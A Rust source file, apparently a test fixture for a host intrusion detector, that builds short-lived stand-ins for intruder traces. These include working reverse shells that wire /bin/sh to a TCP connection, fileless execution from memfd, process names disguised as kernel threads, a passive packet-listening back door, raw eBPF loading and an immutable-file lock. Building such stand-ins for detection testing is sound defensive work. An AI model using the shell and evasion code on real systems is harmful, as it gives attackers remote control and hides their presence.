//! Harmless stand-ins: each behaves like one thing an intruder leaves, and does nothing else.
//!
//! The mode is the first argument, or `STAND_IN` in the environment (for those whose arguments
//! must look like something else). The pid goes to the file named by `STAND_IN_PID`.
#![expect(unsafe_code, reason = "JUSTIFICATION: AF_PACKET filters and bpf(2) have no safe wrapper")]

use std::ffi::CString;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, bail, ensure};
use stanch_range::SlowFiles;

/// Nothing here outlives a test that was interrupted by more than this.
const LIFETIME: Duration = Duration::from_secs(900);

fn main() -> Result<()> {
    let mut arguments = std::env::args().skip(1);
    let mode = match std::env::var("STAND_IN") {
        Ok(mode) => mode,
        Err(_) => arguments.next().context("usage: stand-in MODE …")?,
    };
    let argument = arguments.next().unwrap_or_default();
    match mode.as_str() {
        "sleep" => sleep(),
        "named" => named(&argument),
        "burn" => burn(),
        "memfd" => memfd(),
        "socket-shell" => socket_shell(&argument),
        "pipe-relay" => pipe_relay(&argument),
        "sink" => sink(&argument),
        "listen" => listen(&argument),
        "packet" => packet(),
        "bpf" => bpf(),
        "jit" => jit(),
        "frames" => frames(),
        "switch" => switch(&argument),
        "hear" => hear(&argument),
        "hang" => hang(&argument),
        "serve" => serve(&argument),
        "lock" => lock(&argument),
        other => bail!("no stand-in is called `{other}`"),
    }
}

fn tell(pid: u32) -> Result<()> {
    if let Some(path) = std::env::var_os("STAND_IN_PID") {
        // Written whole and then named, so that a reader never sees half a number.
        let partial = std::path::PathBuf::from(&path).with_extension("part");
        std::fs::write(&partial, pid.to_string())?;
        std::fs::rename(&partial, &path)?;
    }
    Ok(())
}

/// A socket that writes whole frames to the device `eth0`.
struct Wire {
    socket: OwnedFd,
    to: libc::sockaddr_ll,
}

impl Wire {
    fn open() -> Result<Self> {
        // SAFETY: no pointers are passed.
        let socket = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) };
        ensure!(socket >= 0, "an AF_PACKET socket: {}", std::io::Error::last_os_error());
        // SAFETY: the descriptor was just opened and belongs to nobody else.
        let socket = unsafe { OwnedFd::from_raw_fd(socket) };
        // SAFETY: the name ends with a NUL.
        let device = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) };
        // SAFETY: all fields of `sockaddr_ll` are integers.
        let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        to.sll_family = u16::try_from(libc::AF_PACKET)?;
        to.sll_ifindex = i32::try_from(device)?;
        to.sll_halen = 6;
        Ok(Self { socket, to })
    }

    fn send(&self, frame: &[u8]) -> Result<()> {
        let size = u32::try_from(std::mem::size_of_val(&self.to))?;
        // SAFETY: both buffers live for the call and have the lengths that are given.
        let sent = unsafe {
            let address = (&raw const self.to).cast();
            let (from, length) = (frame.as_ptr().cast(), frame.len());
            libc::sendto(self.socket.as_raw_fd(), from, length, 0, address, size)
        };
        // A filter that drops it may say so.
        let _filtered = sent;
        Ok(())
    }
}

/// Writes twenty frames to the device `eth0` itself, past every hook of IP: half of them IPv4, half
/// of a kind of their own (0x88b5, for experiments).
fn frames() -> Result<()> {
    let wire = Wire::open()?;
    for number in 0..20 {
        let mut frame = [0_u8; 64];
        frame[..6].fill(0xff);
        let kind = if number % 2 == 0 { [0x08, 0x00] } else { [0x88, 0xb5] };
        frame[12..14].copy_from_slice(&kind);
        frame[14] = 0x45;
        wire.send(&frame)?;
    }
    Ok(())
}

/// Tells of itself as a switch does (LLDP), each second: its name and its port, with a blank
/// between them.
fn switch(told: &str) -> Result<()> {
    let (name, port) = told.split_once(' ').context("usage: stand-in switch 'NAME PORT'")?;
    let part = |kind: u16, content: &[u8]| -> Result<Vec<u8>> {
        let head = kind << 9 | u16::try_from(content.len())?;
        Ok([&head.to_be_bytes()[..], content].concat())
    };
    let frame = [
        vec![0x01, 0x80, 0xc2, 0x00, 0x00, 0x0e, 0x02, 0, 0, 0, 0, 1, 0x88, 0xcc],
        part(1, &[4, 0x02, 0, 0, 0, 0, 1])?,
        part(2, &[&[5], port.as_bytes()].concat())?,
        part(3, &[0, 120])?,
        part(5, name.as_bytes())?,
        part(0, &[])?,
    ]
    .concat();
    let (wire, began) = (Wire::open()?, Instant::now());
    while began.elapsed() < LIFETIME {
        wire.send(&frame)?;
        std::thread::sleep(Duration::from_secs(1));
    }
    Ok(())
}

fn sleep() -> Result<()> {
    tell(std::process::id())?;
    std::thread::sleep(LIFETIME);
    Ok(())
}

/// Takes a name, as the kernel shows it and as the arguments show it.
fn named(name: &str) -> Result<()> {
    if name.is_empty() {
        // The second life: `argv[0]` is all there is of the arguments.
        let own = std::env::args().next().unwrap_or_default();
        let shown = own.trim_matches(['[', ']']);
        // A kernel thread's name may hold a slash; a program's name is the last part of its path.
        let shown = if shown == own { shown.rsplit('/').next().unwrap_or(shown) } else { shown };
        rustix::thread::set_name(&CString::new(shown)?)?;
        return sleep();
    }
    let error = Command::new("/proc/self/exe").arg0(name).env("STAND_IN", "named").exec();
    Err(error.into())
}

fn burn() -> Result<()> {
    tell(std::process::id())?;
    let start = Instant::now();
    let mut number = 1_u64;
    while start.elapsed() < LIFETIME {
        for _ in 0..10_000_000_u32 {
            number = std::hint::black_box(number.wrapping_mul(6_364_136_223_846_793_005));
        }
    }
    Ok(())
}

/// Runs a copy of itself that never was a file.
fn memfd() -> Result<()> {
    use rustix::fs::{MemfdFlags, memfd_create};
    let memory = memfd_create("upd", MemfdFlags::empty())?;
    let mut memory = std::fs::File::from(memory);
    memory.write_all(&std::fs::read("/proc/self/exe")?)?;
    let path = format!("/proc/self/fd/{}", memory.as_raw_fd());
    Err(Command::new(path).arg("sleep").exec().into())
}

/// A shell whose three streams are one connection.
fn socket_shell(address: &str) -> Result<()> {
    let socket = OwnedFd::from(TcpStream::connect(address)?);
    tell(std::process::id())?;
    let error = Command::new("/bin/sh")
        .arg("-i")
        .stdin(Stdio::from(socket.try_clone()?))
        .stdout(Stdio::from(socket.try_clone()?))
        .stderr(Stdio::from(socket))
        .exec();
    Err(error.into())
}

/// A shell behind pipes whose other ends are carried over a connection. The pid told is the
/// shell's.
fn pipe_relay(address: &str) -> Result<()> {
    let socket = TcpStream::connect(address)?;
    let mut shell = Command::new("/bin/sh").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    tell(shell.id())?;
    let mut input = shell.stdin.take().context("stdin is a pipe")?;
    let mut output = shell.stdout.take().context("stdout is a pipe")?;
    let (mut from, mut to) = (socket.try_clone()?, socket);
    std::thread::spawn(move || copy(&mut from, &mut input));
    copy(&mut output, &mut to);
    Ok(())
}

fn copy(from: &mut impl Read, to: &mut impl Write) {
    let mut buffer = [0_u8; 512];
    while let Ok(length @ 1..) = from.read(&mut buffer) {
        let piece = buffer.get(..length).unwrap_or_default();
        if to.write_all(piece).is_err() {
            break;
        }
    }
}

/// Takes connections and holds them, silent.
fn sink(port: &str) -> Result<()> {
    let listener = TcpListener::bind(format!("0.0.0.0:{port}"))?;
    tell(std::process::id())?;
    let mut held = Vec::new();
    for connection in listener.incoming().take(64) {
        held.push(connection?);
    }
    Ok(())
}

/// Makes a file immutable, as chattr(1) does, which a small Debian lacks.
fn lock(path: &str) -> Result<()> {
    use rustix::fs::{IFlags, ioctl_getflags, ioctl_setflags};
    let file = std::fs::File::open(path)?;
    Ok(ioctl_setflags(&file, ioctl_getflags(&file)? | IFlags::IMMUTABLE)?)
}

fn listen(port: &str) -> Result<()> {
    let _listener = TcpListener::bind(format!("0.0.0.0:{port}"))?;
    sleep()
}

/// A packet socket with a filter of one instruction that drops everything.
fn packet() -> Result<()> {
    // SAFETY: socket(2) takes no pointers.
    let raw = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0x0300) };
    ensure!(raw >= 0, "no packet socket: {}", std::io::Error::last_os_error());
    // SAFETY: the descriptor is new and ours.
    let socket = unsafe { OwnedFd::from_raw_fd(raw) };
    let mut nothing = libc::sock_filter { code: 0x06, jt: 0, jf: 0, k: 0 };
    let program = libc::sock_fprog { len: 1, filter: &raw mut nothing };
    // SAFETY: `program` points to one live instruction and the length given is its own.
    let set = unsafe {
        libc::setsockopt(
            socket.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_ATTACH_FILTER,
            (&raw const program).cast(),
            u32::try_from(size_of_val(&program))?,
        )
    };
    ensure!(set == 0, "no filter: {}", std::io::Error::last_os_error());
    sleep()
}

/// Listens to the wire as a back door that waits for a word does, and writes how many packets of
/// the intruder (10.77.0.1) it has heard.
fn hear(place: &str) -> Result<()> {
    // SAFETY: socket(2) takes no pointers.
    let raw = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0x0300) };
    ensure!(raw >= 0, "no packet socket: {}", std::io::Error::last_os_error());
    // SAFETY: the descriptor is new and ours.
    let mut socket = std::fs::File::from(unsafe { OwnedFd::from_raw_fd(raw) });
    let (began, mut heard, mut frame) = (Instant::now(), 0_u64, [0_u8; 2048]);
    while began.elapsed() < LIFETIME {
        let length = socket.read(&mut frame)?;
        let is_ip = length >= 34 && frame.get(12..14) == Some(&[0x08, 0x00]);
        if is_ip && frame.get(26..30) == Some(&[10, 77, 0, 1]) {
            heard += 1;
            std::fs::write(place, heard.to_string())?;
        }
    }
    Ok(())
}

/// An eBPF program (`return 0`) held by a descriptor alone: attached nowhere, pinned nowhere.
fn bpf() -> Result<()> {
    const PROGRAM_LOAD: libc::c_long = 5;
    const SOCKET_FILTER: u64 = 1;
    // mov r0, 0; exit (linux/bpf.h).
    let code: [u64; 2] = [0xb7, 0x95];
    let licence = c"GPL";
    // struct { u32 prog_type, insn_cnt; u64 insns, license; u32 log_level, log_size; u64 log_buf; … }
    let attribute: [u64; 8] =
        [SOCKET_FILTER | 2 << 32, code.as_ptr() as u64, licence.as_ptr() as u64, 0, 0, 0, 0, 0];
    // SAFETY: the attribute's pointers lead to `code` and `licence`, which outlive the call.
    let raw = unsafe {
        libc::syscall(libc::SYS_bpf, PROGRAM_LOAD, attribute.as_ptr(), size_of_val(&attribute))
    };
    ensure!(raw >= 0, "no eBPF program: {}", std::io::Error::last_os_error());
    // SAFETY: the descriptor is new and ours.
    let _program = unsafe { OwnedFd::from_raw_fd(i32::try_from(raw)?) };
    sleep()
}

/// What a just-in-time compiler looks like: anonymous memory that is writable and executable.
fn jit() -> Result<()> {
    // SAFETY: a new anonymous mapping touches nothing that exists.
    let memory = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            1 << 20,
            libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
            -1,
            0,
        )
    };
    ensure!(memory != libc::MAP_FAILED, "no memory: {}", std::io::Error::last_os_error());
    sleep()
}

/// A user-space file system that never answers: whoever looks into it waits for ever.
fn hang(place: &str) -> Result<()> {
    let _never_served = SlowFiles::mount(place)?;
    sleep()
}

/// One that serves `/bin/sleep` as its one file, until `/run/freeze` is there.
fn serve(place: &str) -> Result<()> {
    let mut files = SlowFiles::mount(place)?;
    tell(std::process::id())?;
    files.serve(&std::fs::read("/bin/sleep")?, std::path::Path::new("/run/freeze"))?;
    std::thread::sleep(LIFETIME);
    Ok(())
}
